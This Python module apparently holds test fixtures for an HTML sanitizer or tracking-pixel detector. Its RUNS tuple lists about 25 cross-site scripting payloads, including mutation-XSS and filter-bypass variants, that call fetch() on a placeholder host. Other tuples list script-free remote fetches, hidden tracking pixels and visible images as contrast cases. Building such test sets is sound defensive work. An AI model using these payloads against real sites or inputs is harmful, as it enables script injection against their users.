"""HTML that would run or fetch something, by hand from what browsers do. `HIT` is an address that counts who asks."""

from __future__ import annotations

HIT = "http://hit.example"  # replaced by the address of a server that counts

RUNS = (
    "<script>fetch('HIT/a')</script>",
    "<script src='HIT/a.js'></script>",
    "<ScRiPt >fetch('HIT/a')</ScRiPt >",
    "<scr<script>ipt>fetch('HIT/a')</scr</script>ipt>",
    "<img src=x onerror=\"fetch('HIT/a')\">",
    "<img src=`x`onerror=fetch('HIT/a')>",
    '<img """><script>fetch(\'HIT/a\')</script>">',
    "<svg onload=\"fetch('HIT/a')\"></svg>",
    "<svg><script>fetch('HIT/a')</script></svg>",
    "<svg><animate onbegin=\"fetch('HIT/a')\" attributeName=x dur=1s>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x'><image href='HIT/a'/></svg>#x\">",
    "<math><mtext><table><mglyph><style><img src=x onerror=\"fetch('HIT/a')\">",
    "<math><mi><table><mi><mglyph><svg><mtext><textarea><path id=\"</textarea><img src=x onerror=fetch('HIT/a')>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=fetch('HIT/a')>",
    "<noscript><p title=\"</noscript><img src=x onerror=fetch('HIT/a')>\">",
    "<details open ontoggle=\"fetch('HIT/a')\">x</details>",
    "<body onload=\"fetch('HIT/a')\">",
    "<input autofocus onfocus=\"fetch('HIT/a')\">",
    '<div style="animation:x 1s" onanimationstart="fetch(\'HIT/a\')"><style>@keyframes x{}</style>x</div>',
    "<iframe srcdoc=\"<script>fetch('HIT/a')</script>\"></iframe>",
    "<iframe src=\"javascript:fetch('HIT/a')\"></iframe>",
    "<!--><img src=x onerror=\"fetch('HIT/a')\">-->",
    "<![CDATA[><img src=x onerror=\"fetch('HIT/a')\">]]>",
    "<xmp></xmp><img src=x onerror=\"fetch('HIT/a')\"></xmp>",
    "<template><s></template><img src=x onerror=\"fetch('HIT/a')\">",
)
"""Runs a script that fetches, where nobody hinders it."""

FETCHES = (
    "<img src='HIT/a.gif'>",
    "<img src='HIT/a.gif' srcset='HIT/b.gif 2x'>",
    "<picture><source srcset='HIT/a.webp'><img src='HIT/a.gif'></picture>",
    "<input type=image src='HIT/a.gif'>",
    "<table background='HIT/a.gif'><tr><td background='HIT/b.gif'>x</table>",
    "<body background='HIT/a.gif'>",
    "<div style=\"background:url('HIT/a.gif')\">x</div>",
    "<div style=\"background:\\75\\72\\6c('HIT/a.gif')\">x</div>",
    "<ul style=\"list-style-image:url('HIT/a.gif')\"><li>x</ul>",
    "<style>@import 'HIT/a.css';</style>",
    "<style>p{background:url('HIT/a.gif')}</style><p>x</p>",
    "<link rel=stylesheet href='HIT/a.css'>",
    "<link rel=prefetch href='HIT/a'><link rel=icon href='HIT/b'>",
    "<iframe src='HIT/a'></iframe>",
    "<object data='HIT/a'></object>",
    "<embed src='HIT/a'>",
    "<video src='HIT/a.mp4' poster='HIT/a.gif' autoplay></video>",
    "<audio src='HIT/a.mp3' autoplay></audio>",
    "<svg><image href='HIT/a.gif'/></svg>",
    "<svg><filter id=f><feImage href='HIT/a.gif'/></filter><rect width=9 height=9 filter='url(#f)'/></svg>",
    "<base href='HIT/'><img src=a.gif>",
    "<img src='//HOST/a.gif'>",
    "<meta http-equiv=refresh content='0;url=HIT/a'>",
)
"""Fetches without a script."""

DOTS = (
    "<img src='HIT/a.gif' width=1 height=1>",
    "<img src='HIT/a.gif' width='0' height='0'>",
    "<img src='HIT/a.gif' width=3 height=2>",
    "<img src='HIT/a.gif' height='1px'>",
    "<img src='HIT/a.gif' style='display:none'>",
    "<img src='HIT/a.gif' style='width:1px;height:1px'>",
    "<img src='HIT/a.gif' style='max-height: 0px; overflow:hidden'>",
    "<img src='HIT/a.gif' style='opacity:0'>",
    "<img src='HIT/a.gif' style='visibility : hidden; visibility: hidden'>",
    "<img src='HIT/a.gif' hidden>",
    "<img src='HIT/track/open.php?u=1'>",
    "<img src='HIT/wf/open?upn=1'>",
    "<img src='HIT/e/o/abc'>",
    "<img src='HIT/x/pixel.gif?id=1'>",
)
"""Pictures that only count their readers."""

SHOWN = (
    "<img src='HIT/a.gif' width=100 height=20 alt=x>",
    "<img src='HIT/a.gif' style='width:100%'>",
    "<img src='HIT/a.gif' style='opacity:0.5;min-width:1px'>",
    "<img src='HIT/photos/open-day.gif' width='1200'>",
)
"""Pictures that are shown to whoever asks for them."""
